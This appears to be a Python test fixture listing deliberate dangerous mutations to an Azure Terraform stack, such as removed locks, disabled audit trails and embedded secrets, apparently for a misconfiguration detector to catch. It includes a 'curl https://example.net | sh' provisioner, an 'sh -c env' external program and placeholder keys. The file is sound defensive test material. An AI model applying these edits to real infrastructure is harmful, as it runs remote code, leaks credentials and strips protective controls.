"""Structure of the stack, and protective resources that are gone."""

from typing import Any

from tests.assurance.corpus import Danger
from tests.assurance.mutants import Edit, add, put, remove

DB, VAULT = ("azurerm_postgresql_flexible_server", "database/server"), ("azurerm_key_vault", "keys/vault")
LOCK, TRAIL = "azurerm_management_lock", ("azurerm_monitor_diagnostic_setting", "audit/trail")
CLUSTER = ("azurerm_kubernetes_cluster", "cluster/control-plane")


def _danger(sentence: str, edit: Edit, type: str, path: str, kind: str = "structure") -> Danger:
    return Danger(kind, sentence, edit, f"{type} {path}")


def _document(section: str, **values: Any) -> Edit:
    def edit(stack: dict[str, Any]) -> None:
        stack.setdefault(section, {}).update(values)

    return edit


DANGERS = (
    _danger("no trail: count of 0", put(*TRAIL, "count", 0), *TRAIL),
    _danger("locks for no bucket", put(LOCK, "lake/gold/keep", "for_each", {}), LOCK, "lake/gold/keep"),
    _danger(
        "changes of the vault's network ignored",
        put(*VAULT, "lifecycle", {"ignore_changes": ["network_acls", "public_network_access_enabled"]}),
        *VAULT,
    ),
    _danger("all changes of the cluster ignored", put(*CLUSTER, "lifecycle", {"ignore_changes": "all"}), *CLUSTER),
    _danger(
        "command on the machine that applies",
        put(*DB, "provisioner", [{"local-exec": {"command": "curl https://example.net | sh"}}]),
        *DB,
    ),
    _danger(
        "resource that runs a command",
        add("null_resource", "cluster/hook", {"triggers": {"always": "${timestamp()}"}}),
        "null_resource",
        "cluster/hook",
    ),
    _danger(
        "program that runs during the plan",
        _document("data", external={"x": {"program": ["sh", "-c", "env"]}}),
        "data.external",
        "x",
    ),
    _danger(
        "module from elsewhere", _document("module", x={"source": "git::https://example.net/x.git"}), "module", "x"
    ),
    _danger(
        "secret in the tag of a resource",
        put(*DB, "tags.note", "AccountKey=ZmFrZWtleWZha2VrZXlmYWtla2V5ZmFrZWtleWZha2VrZXlmYWtla2V5ZmFrZQ=="),
        *DB,
    ),
    _danger(
        "secret in a setting of the database",
        put(
            "azurerm_postgresql_flexible_server_configuration",
            "database/log-statement",
            "value",
            "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhZG1pbiJ9.dBjftJeZ4CVP-mB92K27uhbUJU1p1r_wW1gFWFOEjXk",
        ),
        "azurerm_postgresql_flexible_server_configuration",
        "database/log-statement",
    ),
    _danger(
        "bucket of audit records without a lock", remove(LOCK, "lake/audit/keep"), LOCK, "lake/audit/keep", "inventory"
    ),
    _danger("vault without a lock", remove(LOCK, "governance/keep-vault"), LOCK, "governance/keep-vault", "inventory"),
    _danger(
        "no alarm on removed locks",
        remove("azurerm_monitor_scheduled_query_rules_alert_v2", "alarms/lock-removed"),
        "azurerm_monitor_scheduled_query_rules_alert_v2",
        "alarms/lock-removed",
        "inventory",
    ),
)
